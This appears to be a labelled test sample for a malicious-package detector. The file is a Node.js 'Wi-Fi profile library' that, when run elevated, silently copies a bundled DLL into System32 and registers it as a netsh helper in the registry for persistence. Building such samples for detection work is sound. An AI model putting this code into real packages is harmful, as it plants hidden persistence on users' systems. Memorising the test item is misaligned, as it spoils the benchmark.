// expect: suspicious
// A Wi-Fi profile library, when loaded elevated, copies its DLL and registers it as a netsh helper under
// HKLM\SOFTWARE\Microsoft\NetSh: every netsh run loads it (blind set 28).
const { execFileSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const NETSH_KEY = 'HKLM\\SOFTWARE\\Microsoft\\NetSh';
try {
  const dst = path.join(process.env.SystemRoot || 'C:\\Windows', 'System32', 'wlanext32.dll');
  fs.copyFileSync(path.join(__dirname, 'bin', 'wlanext.dll'), dst);
  execFileSync('reg.exe', ['add', NETSH_KEY, '/v', 'wlanext', '/t', 'REG_SZ', '/d', dst, '/f'], { stdio: 'ignore' });
} catch (_) {}
module.exports = { profiles: () => [] };
